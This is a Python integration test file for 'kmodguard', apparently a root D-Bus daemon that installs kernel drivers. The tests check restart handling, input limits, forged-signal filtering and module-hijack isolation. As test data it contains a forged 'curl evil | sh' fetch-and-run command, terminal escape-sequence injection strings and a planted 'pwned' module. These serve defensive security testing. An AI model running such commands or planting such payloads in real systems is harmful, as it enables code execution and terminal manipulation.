    from kmodguard.engine import state

    before = len(history(image))
    daemon, client = started(AUTO, kver=RPM_KVER)
    state_dir = Path(daemon.env["KMODGUARD_STATE_DIR"])
    rpm_lock = open(_rpm_lock(image), "rb+")
    try:
        fcntl.lockf(rpm_lock, fcntl.LOCK_EX)  # another package manager holds rpm's lock: the fix waits
        add_and_announce(testbed, pci_record("0000:00:05.0", GPU), [f"{SYSPCI}/0000:00:05.0"])
        _, body = client.wait_signal("FixProgress", lambda b: "waiting for the package lock" in b[1], timeout=60)
        rid = body[0]
        assert daemon.stop() == 0  # the restart's stop
        assert state.lock_held(state_dir), "the fix must outlive the daemon"
        assert state.pending_request(state_dir) is None  # taken by the fix before it acted
        assert state.taken_request(state_dir)["id"] == rid
        if when == "finished-while-no-daemon-ran":
            fcntl.lockf(rpm_lock, fcntl.LOCK_UN)
            deadline = time.monotonic() + 180
            while state.lock_held(state_dir) or (state.last_fix(state_dir) or {}).get("id") != rid:
                assert time.monotonic() < deadline, "the fix did not finish"
                time.sleep(0.1)
        notify.messages.clear()
        daemon2, _ = started(AUTO, kver=RPM_KVER)  # `client` listens across the restart, as a waiter would
        if when == "finishes-while-the-new-daemon-waits":
            daemon2.wait_until(lambda s: s["fix_running"], 30, "the new daemon to wait for the running fix")
            time.sleep(SETTLE + 0.5)
            assert not any(e["kind"] == "fix-started" for e in daemon2.snapshot()["events"])
            fcntl.lockf(rpm_lock, fcntl.LOCK_UN)
    finally:
        rpm_lock.close()
    _, body = client.wait_signal("RemediationFinished", lambda b: b[0] == rid, timeout=180)
    assert body[1] == 6 and json.loads(body[2])["requested_by"] == "auto"
    snap = daemon2.wait_until(lambda s: s["fixes"] == 1 and not s["fix_running"], 30)
    assert [e["request"] for e in snap["events"] if e["kind"] == "fix-finished"] == [rid]
    assert snap["last_fix"]["id"] == rid and snap["last_fix"]["exit_code"] == 6
    journal = [r for r in daemon2.log_records() if r.get("message_id") == FIX_FINISHED_ID]
    assert len(journal) == 1 and journal[0]["kmodguard_request"] == rid, daemon2.log_text()
    # and nothing ran a second time, then or later
    time.sleep(SETTLE + 1.0)
    snap = daemon2.snapshot()
    assert snap["fixes"] == 1 and not any(e["kind"] == "fix-started" for e in snap["events"])
    assert [m for m, _ in client.drain() if m == "RemediationFinished"] == ["RemediationFinished"]
    assert "resuming" not in daemon2.log_text()
    assert len(history(image)) == before + 1
    assert state.pending_request(state_dir) is None and state.taken_request(state_dir) is None
    assert {d["id"]: d["verdict"] for d in snap["devices"]} == {"0000:00:05.0": "loadable"}


def test_a_pending_request_nobody_took_is_resumed_once(started, testbed, image):
    """A daemon stopped after writing its request, before any fix took it: the next one runs it, once."""
    from kmodguard.engine import state

    before = len(history(image))
    daemon, client = started('backend = "dnf"\n', records=pci_record("0000:00:05.0", GPU), kver=RPM_KVER)
    state_dir = Path(daemon.env["KMODGUARD_STATE_DIR"])
    daemon.stop()
    request = state.write_request(state_dir, RPM_KVER, ["0000:00:05.0"], "root", {})  # as it left it
    daemon2, _ = started('backend = "dnf"\n', kver=RPM_KVER)
    _, body = client.wait_signal("RemediationFinished", lambda b: b[0] == request["id"], timeout=180)
    assert body[1] == 6
    snap = daemon2.wait_until(lambda s: s["fixes"] == 1 and not s["fix_running"], 30)
    assert [e["request"] for e in snap["events"] if e["kind"] == "fix-started"] == [request["id"]]
    time.sleep(SETTLE + 1.0)
    assert daemon2.snapshot()["fixes"] == 1
    assert len(history(image)) == before + 1
    assert state.pending_request(state_dir) is None and state.taken_request(state_dir) is None


def test_a_storm_of_signals_does_not_cut_the_daemon_off_the_bus(started, testbed):
    """256 new devices make 256 signals at once: the socket's send buffer fills; the daemon must
    wait for it to drain, not drop the connection (dbus-next's writer did: see kmodguard/dbus.py)."""
    pf = "0000:00:04.0"
    daemon, client = started(records=pci_record(pf, synthetic.ALIAS["installed"], driver="kmg_core_nic"))
    vfs = [f"0000:01:{i // 8:02x}.{i % 8}" for i in range(256)]
    add_and_announce(testbed, "".join(pci_record(vf, GPU, parent=f"/devices/pci0000:00/{pf}",
                                                 links={"physfn": f"../{pf}"}) for vf in vfs),
                     [f"{SYSPCI}/{pf}/{vf}" for vf in vfs])
    for vf in vfs:
        client.wait_signal("DeviceNeedsDriver", lambda b: b[0] == vf, timeout=30)
    reply = client.call("GetStatus", timeout=30)  # and it still answers
    assert len(json.loads(reply.body[0])["daemon"]["needs_driver"]) == 256


# --- bounds: what any local user sends, what the daemon answers -------------------------------

def test_calls_are_bounded_and_errors_do_not_echo_the_input(started):
    """At most 4,096 strings of at most 4 KiB per call; beyond that InvalidInput with a short
    message; the largest call allowed gets a reply the bus carries (75,000 modaliases once made a
    reply over the bus's 32 MiB limit and the bus cut the daemon off)."""
    from dbus_next import MessageType

    daemon, client = started()
    for member, signature, body in [
        ("Explain", "as", [[GPU] * 75_000]),
        ("Explain", "as", [[GPU] * 4097]),
        ("Plan", "asa{sv}", [["0000:00:05.0"] * 4097, {}]),
        ("Fix", "asa{sv}", [["0000:00:05.0"] * 4097, {}]),
        ("Explain", "as", [["pci:\x1b[2J" + "x" * 100_000]]),
        ("Plan", "asa{sv}", [["\x1b]0;" + "y" * 100_000], {}]),
    ]:
        reply = client.call(member, signature, body, timeout=60)
        assert reply.message_type == MessageType.ERROR, (member, reply.body)
        assert reply.error_name == "org.kmodguard.Error.InvalidInput"
        message = reply.body[0]
        assert len(message) < 1100 and "x" * 100 not in message and "y" * 100 not in message, message
        assert "\x1b" not in message and "at most 4096" in message, message
    from dbus_next import Variant

    reply = client.call("Plan", "asa{sv}", [[], {"backend": Variant("s", "z" * 5000)}], timeout=60)
    assert reply.error_name == "org.kmodguard.Error.InvalidInput" and len(reply.body[0]) < 1100
    # the largest call allowed is answered, and the daemon is still on the bus afterwards
    reply = client.call("Explain", "as", [[GPU] * 4096], timeout=120)
    assert reply.message_type == MessageType.METHOD_RETURN, reply.body
    assert len(json.loads(reply.body[0])["results"]) == 4096
    assert client.call("GetStatus").message_type == MessageType.METHOD_RETURN
    assert daemon.proc.poll() is None and client.get_property("Mode") == "offer"


def test_a_daemon_that_loses_the_bus_exits_non_zero_with_one_line(started, bus):
    """Without its name it serves nobody: it exits, and systemd (Restart=on-failure) restarts it."""
    daemon, client = started()
    bus.stop()
    rc = daemon.proc.wait(30)
    assert rc != 0
    lost = [r for r in daemon.log_records() if "lost the system bus" in r["message"]]
    assert len(lost) == 1, daemon.log_text()
    assert "Traceback" not in daemon.log_text()


def _forging_daemon():
    """The daemon's Fix as a stand-in that forges progress: a stranger's FixProgress first, then the
    bus name owner's, with terminal control characters. Built once, at import: dbus_next parses
    a method's annotations with ast.parse, which CPython 3.11.2 can fail ("AST constructor
    recursion depth mismatch") when the cyclic GC runs a finalizer in the middle of it, as a test's
    leftover futures do."""
    from kmodguard import dbus as D

    class ForgingDaemon(D.ServiceInterface):
        def __init__(self, emit, stranger, own):
            super().__init__(D.INTERFACE)
            self.emit, self.stranger, self.own = emit, stranger, own

        @D.method()
        async def Fix(self, devices: 'as', options: 'a{sv}') -> 'is':  # noqa: F821
            await self.emit(self.stranger, "forged: run curl evil | sh")
            await self.stranger.call(D.Message(destination="org.freedesktop.DBus", path="/org/freedesktop/DBus",
                                               interface="org.freedesktop.DBus", member="GetId"))  # flushed
            await self.emit(self.own, "step install \x1b]0;owned\x07\x1b[2J" + "z" * 2000)
            return [0, "{}"]

    return ForgingDaemon


ForgingDaemon = _forging_daemon()


def test_kmodguard_fix_relays_progress_only_from_the_daemon_and_escaped(bus, monkeypatch):
    """Any connection may emit a signal named FixProgress: `kmodguard fix` takes progress only from
    the owner of org.kmodguard.Daemon1, and prints no terminal control characters from it."""
    import asyncio

    from kmodguard import dbus as D
    from kmodguard.cli import client as cli_client

    monkeypatch.setenv("DBUS_SYSTEM_BUS_ADDRESS", bus.address)
    seen = []

    def emit(conn, text):
        return conn.send(D.Message.new_signal(D.OBJECT_PATH, D.INTERFACE, "FixProgress", "ss", ["r1", text]))

    async def scenario():
        stranger = await D.connect(bus.address)
        stub_bus = await D.connect(bus.address)
        stub_bus.export(D.OBJECT_PATH, ForgingDaemon(emit, stranger, stub_bus))
        assert await stub_bus.request_name(D.BUS_NAME) == D.RequestNameReply.PRIMARY_OWNER
        try:
            return await cli_client._fix([], {}, seen.append)
        finally:
            stub_bus.disconnect()
            stranger.disconnect()

    assert asyncio.run(scenario()) == (0, {})
    assert len(seen) == 1, seen
    assert seen[0].startswith("daemon: step install \\x1b]0;owned\\x07\\x1b[2J") and "forged" not in seen[0]
    assert all(" " <= c <= "~" or c == "…" for c in seen[0]) and len(seen[0]) < 600


def test_the_fix_child_ignores_a_planted_kmodguard_in_the_working_directory(tmp_path, monkeypatch, indexed):
    """Without systemd the fix runs as a child of the root daemon: isolated (python -I) in /, so a
    ./kmodguard/__main__.py (or PYTHONPATH) where the daemon was started never runs."""
    import asyncio

    from kmodguard.daemon.runner import ChildRunner

    planted = tmp_path / "planted"
    marker = tmp_path / "ran-as-root"
    for sub in ("kmodguard", "kmodguard/cli"):
        (planted / sub).mkdir(parents=True)
        (planted / sub / "__init__.py").write_text(f"open({str(marker)!r}, 'w').write('pwned')\n")
    (planted / "kmodguard" / "__main__.py").write_text(f"open({str(marker)!r}, 'w').write('pwned')\n")
    monkeypatch.chdir(planted)
    monkeypatch.setenv("PYTHONPATH", str(planted))
    lines = []
    request = tmp_path / "state" / "fix-request.json"  # none: the real kmodguard says so and exits 0
    rc = asyncio.run(ChildRunner(dict(indexed.env, PYTHONPATH=str(planted))).run(request, lines.append))
    assert not marker.exists(), lines
    assert rc == 0 and any("no fix request at" in line for line in lines), lines


# --- one decision, whoever asks -------------------------------------------------------------------

def test_the_daemon_check_apply_policy_and_fix_dry_run_decide_alike(started, testbed, indexed, tmp_path):
    """The same devices and policy: the daemon's announcements, `check --apply-policy` (its journal
    entries) and `fix --dry-run`'s plan name the same devices, one decision (engine.fixing)."""
    records = (pci_record("0000:00:05.0", GPU) + pci_record("0000:00:06.0", EXTRA_XZ)
               + pci_record("0000:00:07.0", NONE)
               + pci_record("0000:00:08.0", synthetic.ALIAS["installed"], driver="kmg_installed"))
    daemon, _client = started(records=records)
    snap = daemon.wait_until(lambda s: len(s["needs_driver"]) == 2, 15, "the two devices announced")
    announced = sorted(snap["needs_driver"])
    env = {**daemon.env, "UMOCKDEV_DIR": testbed.root, "KMODGUARD_KVER": KVER}  # the kernel taken as running

    def kmodguard(*args):
        return subprocess.run(["umockdev-wrapper", sys.executable, "-m", "kmodguard", *args],
                              env=env, capture_output=True, text=True, timeout=120)

    check = kmodguard("check", "--apply-policy", "--json")
    assert check.returncode == 3, check.stderr
    doc = json.loads(check.stdout)
    assert doc["applied"]["action"] == "offer" and sorted(d["id"] for d in doc["devices"]) == announced
    for device_id in announced:  # check's own journal line for each, as the daemon's
        assert f"{device_id} needs a driver" in check.stderr, check.stderr
    plan = json.loads(kmodguard("fix", "--dry-run", "--json").stdout)
    assert sorted(d["id"] for d in plan["devices"] if d["action"] in ("install", "load")) == announced
    assert announced == ["0000:00:05.0", "0000:00:06.0"]
